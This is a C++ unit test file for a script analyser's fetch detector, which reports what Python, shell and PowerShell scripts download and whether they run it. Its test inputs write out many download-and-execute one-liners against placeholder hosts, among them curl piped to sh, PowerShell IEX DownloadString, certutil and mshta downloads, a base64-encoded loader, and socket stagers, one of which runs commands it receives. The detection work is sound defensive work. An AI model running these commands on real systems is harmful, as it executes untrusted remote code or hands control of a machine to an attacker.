#include "report/fetches.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "unwrap/unwrap.h"

// What a script would fetch: "CALL URL -> LANDING:WHERE [run BY]", one a line.
namespace pyverdict::report {
namespace {

using unwrap::LayerKind;

std::string fetches_of(std::string_view script, LayerKind kind) {
  const unwrap::Program program = unwrap::unwrap(std::string(script), kind);
  std::uint32_t left_out = 0;
  std::string result;
  for (const FoundFetch& fetch : find_fetches(program, 100, left_out)) {
    if (!result.empty()) result += "\n";
    result += fetch.call + " " + fetch.url + " -> " + std::string(name(fetch.landing));
    if (!fetch.lands.empty()) result += ":" + fetch.lands;
    if (fetch.run) result += fetch.run_by.empty() ? " run" : " run " + fetch.run_by;
    if (!fetch.complete) result += " (in part)";
  }
  return result;
}

struct FetchCase {
  std::string_view script;
  std::string_view fetches;
};

TEST(Fetches, OfPython) {
  constexpr FetchCase kCases[] = {
      {"import requests\nexec(requests.get('http://h.example.invalid/a').text)\n",
       "requests.get http://h.example.invalid/a -> interpreter:exec run exec"},
      {"import requests\nr = requests.get('http://h.example.invalid/a')\nexec(r.text)\n",
       "requests.get http://h.example.invalid/a -> variable:r run exec"},
      {"import requests\na = requests.get('http://h.example.invalid/a')\nb = "
       "requests.get('http://h.example.invalid/b')\n"
       "exec(a.text)\n",
       "requests.get http://h.example.invalid/a -> variable:a run exec\n"
       "requests.get http://h.example.invalid/b -> variable:b"},
      {"import requests, subprocess\nr = requests.get('http://h.example.invalid/a')\n"
       "with open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen(['/tmp/x'])\n",
       "requests.get http://h.example.invalid/a -> file:/tmp/x run"},
      {"import urllib.request, os\nurllib.request.urlretrieve('http://h.example.invalid/a', '/tmp/a.sh')\n"
       "os.system('chmod +x /tmp/a.sh; /tmp/a.sh')\n",
       "urllib.request.urlretrieve http://h.example.invalid/a -> file:/tmp/a.sh run"},
      {"import urllib.request, os\nurllib.request.urlretrieve('http://h.example.invalid/a', "
       "filename='a.py')\n"
       "os.system('python3 a.py')\n",
       "urllib.request.urlretrieve http://h.example.invalid/a -> file:a.py run python3"},
      {"import urllib2\nopen('/tmp/d.csv', "
       "'wb').write(urllib2.urlopen('http://h.example.invalid/d').read())\n",
       "urllib.request.urlopen http://h.example.invalid/d -> file:/tmp/d.csv"},
      {"from urllib.request import Request, urlopen\nq = Request('http://h.example.invalid/a', headers={})\n"
       "d = urlopen(q).read()\nexec(d)\n",
       "urllib.request.urlopen http://h.example.invalid/a -> variable:d run exec"},
      {"import wget, os\nwget.download('http://h.example.invalid/a.exe', "
       "out='a.exe')\nos.startfile('a.exe')\n",
       "wget.download http://h.example.invalid/a.exe -> file:a.exe run os.startfile"},
      {"import httpx, "
       "pathlib\npathlib.Path('/tmp/m.bin').write_bytes(httpx.get('http://h.example.invalid/m').content)\n",
       "httpx.get http://h.example.invalid/m -> file:/tmp/m.bin"},
      {"import aiohttp\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
       "        async with s.get('http://h.example.invalid/a') as r:\n            exec(await "
       "r.text())\nmain()\n",
       "aiohttp.ClientSession().get http://h.example.invalid/a -> variable:r run exec"},
      {"import urllib.request, shutil\nwith urllib.request.urlopen('http://h.example.invalid/a') as r, "
       "open('/tmp/o', 'wb') as f:\n    shutil.copyfileobj(r, f)\n",
       "urllib.request.urlopen http://h.example.invalid/a -> file:/tmp/o"},
      {"import http.client\nc = http.client.HTTPSConnection('h.example.invalid')\nc.request('GET', '/a')\n",
       "http.client.HTTPSConnection().request https://h.example.invalid/a -> unknown"},
      {"import socket, struct, zlib\ns = socket.socket(2, socket.SOCK_STREAM)\n"
       "s.connect(('192.0.2.7', 4444))\nl = struct.unpack('>I', s.recv(4))[0]\nd = s.recv(l)\n"
       "while len(d) < l:\n    d += s.recv(l - len(d))\nexec(zlib.decompress(d), {'s': s})\n",
       "socket.socket().recv tcp://192.0.2.7:4444 -> interpreter:exec run exec"},
      {"import socket\nwith socket.create_connection(('h.example.invalid', 80)) as s:\n"
       "    open('/tmp/m.bin', 'wb').write(s.recv(65536))\n",
       "socket.create_connection().recv tcp://h.example.invalid:80 -> file:/tmp/m.bin"},
      {"import socket, sys, marshal\ns = socket.socket()\ns.connect((sys.argv[1], 80))\n"
       "exec(marshal.loads(s.makefile('rb').read()))\n",
       "socket.socket().makefile tcp://\xEF\xBF\xBC:80 -> interpreter:marshal.loads run marshal.loads (in "
       "part)"},
      // Commands that are run one by one are no fetch, nor is what is only read.
      {"import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n"
       "while True:\n    subprocess.run(s.recv(1024).decode(), shell=True)\n",
       ""},
      {"import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 80))\nprint(s.recv(10))\n", ""},
      {"import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://h.example.invalid/a')\n"
       "with open('/tmp/a', 'wb') as f:\n    c.setopt(pycurl.WRITEDATA, f)\n    c.perform()\n",
       "pycurl.Curl().setopt http://h.example.invalid/a -> file:/tmp/a"},
      {"import requests, sys\nrequests.get('http://h.example.invalid/' + sys.argv[1])\n",
       "requests.get http://h.example.invalid/\xEF\xBF\xBC -> unknown (in part)"},
      {"import requests\nrequests.post('http://h.example.invalid/p', data={})\n", ""},
      {"import requests\nexec(requests.post('http://h.example.invalid/p', data={}).text)\n",
       "requests.post http://h.example.invalid/p -> interpreter:exec run exec"},
      {"import subprocess\nsubprocess.run(['curl', '-fsSLo', '/tmp/x', 'http://h.example.invalid/x'])\n"
       "subprocess.run(['sh', '/tmp/x'])\n",
       "curl http://h.example.invalid/x -> file:/tmp/x run sh"},
      {"import "
       "base64\nexec(base64.b64decode('"
       "aW1wb3J0IHJlcXVlc3RzCmV4ZWMocmVxdWVzdHMuZ2V0KCdodHRwOi8vaC5leGFtcGxlLmludmFsaWQv"
       "YScpLnRleHQp'))\n",
       "requests.get http://h.example.invalid/a -> interpreter:exec run exec"},
      {"import urllib.request as u\nu.urlopen(u.Request('http://h.example.invalid/p', data=b'x'))\n", ""},
      {"import requests\nip = requests.get('http://h.example.invalid/ip').text\n"
       "r = requests.post('http://h.example.invalid/p', data=ip)\nopen('/tmp/ip', 'w').write('at ' + ip)\n",
       "requests.get http://h.example.invalid/ip -> file:/tmp/ip"},
      {"import sys, subprocess\nsubprocess.run(['git', 'clone', 'https://h.example.invalid/r', "
       "sys.argv[1]])\n"
       "subprocess.run(['python3', sys.argv[2]])\n",
       "git clone https://h.example.invalid/r -> file:\xEF\xBF\xBC"},
      {"print('http://h.example.invalid/a')\n", ""},
  };
  for (const FetchCase& row : kCases)
    EXPECT_EQ(fetches_of(row.script, LayerKind::Python), row.fetches) << row.script;
}

TEST(Fetches, OfShells) {
  constexpr FetchCase kCases[] = {
      {"curl -s http://h.example.invalid/a | sh", "curl http://h.example.invalid/a -> interpreter:sh run sh"},
      {"wget -qO- http://h.example.invalid/a | sudo bash -s",
       "wget http://h.example.invalid/a -> interpreter:bash run bash"},
      {"bash <(curl -s http://h.example.invalid/a)",
       "curl http://h.example.invalid/a -> interpreter:bash run bash"},
      {"eval \"$(wget -O - http://h.example.invalid/a)\"",
       "wget http://h.example.invalid/a -> interpreter:eval run eval"},
      {"X=$(curl h.example.invalid/a); eval \"$X\"", "curl h.example.invalid/a -> variable:X run eval"},
      {"curl -H 'A: b' -o /tmp/a http://h.example.invalid/a && chmod +x /tmp/a && /tmp/a",
       "curl http://h.example.invalid/a -> file:/tmp/a run"},
      {"cd /tmp; wget http://h.example.invalid/b/a.sh; sh a.sh",
       "wget http://h.example.invalid/b/a.sh -> file:a.sh run sh"},
      {"wget -q -P /opt http://h.example.invalid/a.tgz",
       "wget http://h.example.invalid/a.tgz -> file:/opt/a.tgz"},
      {"curl http://h.example.invalid/a > /tmp/b; bash /tmp/b",
       "curl http://h.example.invalid/a -> file:/tmp/b run bash"},
      {"curl -sO http://h.example.invalid/x.py; python3 ./x.py",
       "curl http://h.example.invalid/x.py -> file:x.py run python3"},
      {"H=h.example.invalid; curl http://$H/a http://$H/b",
       "curl http://h.example.invalid/a -> unknown\ncurl http://h.example.invalid/b -> unknown"},
      {"curl http://$HOST/a", "curl http://$HOST/a -> unknown (in part)"},
      {"certutil -urlcache -f http://h.example.invalid/a.exe c:\\a.exe & c:\\a.exe",
       "certutil http://h.example.invalid/a.exe -> file:c:\\a.exe run"},
      {"mshta http://h.example.invalid/a.hta",
       "mshta http://h.example.invalid/a.hta -> interpreter:mshta run mshta"},
      {"git clone https://h.example.invalid/r.git",
       "git clone https://h.example.invalid/r.git -> file:r.git"},
      {"echo http://h.example.invalid/a", ""},
  };
  for (const FetchCase& row : kCases)
    EXPECT_EQ(fetches_of(row.script, LayerKind::Shell), row.fetches) << row.script;
}

TEST(Fetches, OfPowerShell) {
  constexpr FetchCase kCases[] = {
      {"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://h.example.invalid/a')\"",
       "DownloadString http://h.example.invalid/a -> interpreter:Invoke-Expression run Invoke-Expression"},
      {"powershell -c \"irm http://h.example.invalid/a | iex\"",
       "irm http://h.example.invalid/a -> interpreter:Invoke-Expression run Invoke-Expression"},
      {"powershell -c \"(New-Object Net.WebClient).DownloadFile('http://h.example.invalid/a','c:\\x.exe'); "
       "Start-Process "
       "c:\\x.exe\"",
       "DownloadFile http://h.example.invalid/a -> file:c:\\x.exe run Start-Process"},
      {"powershell -c \"iwr -Uri http://h.example.invalid/a.exe -OutFile a.exe; .\\a.exe\"",
       "iwr http://h.example.invalid/a.exe -> file:a.exe run"},
  };
  for (const FetchCase& row : kCases)
    EXPECT_EQ(fetches_of(row.script, LayerKind::Shell), row.fetches) << row.script;
}

TEST(Fetches, AreBounded) {
  std::string script = "import requests\n";
  for (int i = 0; i < 300; ++i)
    script += "requests.get('http://h.example.invalid/" + std::to_string(i) + "')\n";
  const unwrap::Program program = unwrap::unwrap(script);
  std::uint32_t left_out = 0;
  EXPECT_EQ(find_fetches(program, 100, left_out).size(), 100u);
  EXPECT_EQ(left_out, 200u);
}

}  // namespace
}  // namespace pyverdict::report
